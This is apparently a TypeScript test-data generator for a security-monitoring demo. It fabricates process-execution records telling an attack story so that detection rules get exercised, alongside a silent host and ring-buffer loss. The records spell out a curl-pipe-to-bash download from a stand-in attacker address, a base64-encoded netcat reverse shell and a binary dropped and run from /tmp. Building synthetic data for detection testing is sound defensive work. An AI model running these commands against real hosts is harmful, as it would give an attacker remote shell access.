/**
 * The demo's attack story, as records to mix into a generated day
 * (gen_day.ts `scenario`): what each feature of the daily suite must catch.
 *
 * - On the first web host, at 09:14, a web server's worker runs a shell
 *   that pipes a download into bash; that bash decodes a base64 payload
 *   into a shell, which starts `nc -e /bin/sh` back to the attacker, then
 *   drops and runs `/tmp/.cache/kworkerd` (a binary run from /tmp, new on
 *   the host and in the fleet); a failed exec of another /tmp binary
 *   (EACCES: a noexec mount) follows. E2 records with real exec ids, so
 *   ParentImage, lineage and the chain resolve.
 * - The second db host goes silent at noon (gen_day.ts cuts its records).
 * - The first cache host loses ring-buffer events (S1 `rb_lost` grows).
 *
 * @module
 */

import { encodeExec, encodeStats, type ExecEvent } from "../../scripts/logformat/mod.ts";
import { execEvent } from "./exec_event.ts";

/** Roles of the hosts the story happens on (gen_day.ts host names: `<role>-NNN...`). */
export const ATTACK_HOST_ROLE = "web";
export const SILENT_HOST_ROLE = "db";
export const LOSSY_HOST_ROLE = "cache";

/** The attacker's address in the story. */
export const ATTACKER = "203.0.113.66";

/** The Sigma rules of jobs/sigma/rules/ the story must match (rule ids). */
export const EXPECTED_RULES = {
  web_server_shell: "b32be7cc-1ccf-4ac5-9e53-8fe37049285f",
  pipe_to_shell: "4da187b4-583d-4fd7-ad6a-dbe394f728b9",
  base64_payload_shell: "3b693a59-8340-4f8a-b57e-88e11726380a",
  reverse_shell_netcat: "f3917e95-a30b-449f-8415-5791c8473d44",
  exec_from_tmp: "bb24a6ca-e3ae-4fa2-9241-16cbd869d5ab",
  denied_exec_tmp: "3bb9f642-d50e-4382-a643-3127bfa84789",
} as const;

const BOOT = "a77ac4e5d00d4b1e9f3c2b1a09876543";

interface Proc {
  pid: number;
  start: string;
  xid: string;
}

/**
 * The attack's exec records (lines, time order) for a day starting at
 * `dayStartNs` (ns, the UTC midnight).
 */
export function attackLines(dayStartNs: bigint): string[] {
  const at = (s: number) => String(dayStartNs + BigInt(Math.round(s * 1e9)));
  const t0 = 9 * 3600 + 14 * 60; // 09:14
  const lines: string[] = [];
  let seq = 0;
  const exec = (
    s: number,
    self: Proc,
    parent: Proc,
    filename: string,
    argv: string[],
    over: Partial<ExecEvent> = {},
  ) => {
    const ev = execEvent({
      time_ns: at(s),
      boot_id: BOOT,
      seq: seq++,
      pid: self.pid,
      tid: self.pid,
      start_ns: self.start,
      xid: self.xid,
      ppid: parent.pid,
      pstart_ns: parent.start,
      pxid: parent.xid,
      uid: 33,
      gid: 33,
      euid: 33,
      egid: 33,
      filename,
      comm: filename.split("/").pop()!.slice(0, 15),
      argv,
      ...over,
    });
    lines.push(encodeExec(ev));
  };
  // nginx (re)started by systemd in the morning: its own exec is in the day
  const systemd: Proc = { pid: 1, start: "1", xid: "1" };
  const nginx: Proc = { pid: 4100, start: "30000000000000", xid: "1" };
  exec(8 * 3600, nginx, systemd, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], {
    uid: 0,
    gid: 0,
    euid: 0,
    egid: 0,
    pcomm: "systemd",
  });
  // nginx runs a shell (a worker is a fork without an exec: until fork records, the shell's
  // parent here is nginx itself, whose exec is in the data)
  const sh1: Proc = { pid: 4242, start: "40000000000000", xid: "1" };
  exec(t0, sh1, nginx, "/bin/sh", ["sh", "-c", `curl -fsSL http://${ATTACKER}/x.sh | bash`], {
    pcomm: "nginx",
  });
  const curl: Proc = { pid: 4243, start: "40000000100000", xid: "1" };
  exec(t0 + 0.01, curl, sh1, "/usr/bin/curl", ["curl", "-fsSL", `http://${ATTACKER}/x.sh`], {
    pcomm: "sh",
  });
  const bash: Proc = { pid: 4244, start: "40000000200000", xid: "1" };
  exec(t0 + 0.01, bash, sh1, "/usr/bin/bash", ["bash"], { pcomm: "sh" });
  const sh2: Proc = { pid: 4250, start: "40000001000000", xid: "1" };
  const payload = btoa(`nc -e /bin/sh ${ATTACKER} 4444`);
  exec(t0 + 1, sh2, bash, "/bin/sh", ["sh", "-c", `echo ${payload} | base64 -d | sh`], {
    pcomm: "bash",
  });
  const b64: Proc = { pid: 4251, start: "40000001100000", xid: "1" };
  exec(t0 + 1.01, b64, sh2, "/usr/bin/base64", ["base64", "-d"], { pcomm: "sh" });
  const sh3: Proc = { pid: 4252, start: "40000001200000", xid: "1" };
  exec(t0 + 1.01, sh3, sh2, "/bin/sh", ["sh"], { pcomm: "sh" });
  const nc: Proc = { pid: 4253, start: "40000001300000", xid: "1" };
  exec(t0 + 1.02, nc, sh3, "/usr/bin/nc", ["nc", "-e", "/bin/sh", ATTACKER, "4444"], {
    pcomm: "sh",
  });
  // from the reverse shell: a binary dropped in /tmp and run, then one the noexec mount refuses
  const drop: Proc = { pid: 4300, start: "40000090000000", xid: "1" };
  exec(t0 + 90, drop, bash, "/tmp/.cache/kworkerd", ["/tmp/.cache/kworkerd", "--daemon"], {
    pcomm: "bash",
  });
  exec(t0 + 95, { pid: 4301, start: "40000095000000", xid: "1" }, bash, "/dev/shm/.x", [
    "/dev/shm/.x",
  ], { pcomm: "bash", ret: -13, flags: 0x01, xid: "0" });
  return lines;
}

/**
 * S1 records of a collector losing ring-buffer events: `rb_lost` grows
 * through the afternoon (a per-run counter: coverage sums last minus first).
 */
export function lossLines(dayStartNs: bigint, bootId: string): string[] {
  const out: string[] = [];
  for (let h = 13; h <= 16; h++) {
    out.push(
      encodeStats(String(dayStartNs + BigInt(h * 3600) * 1_000_000_000n), bootId, "interval", {
        events: 1000 * h,
        rb_lost: (h - 13) * 1500,
      }),
    );
  }
  return out;
}
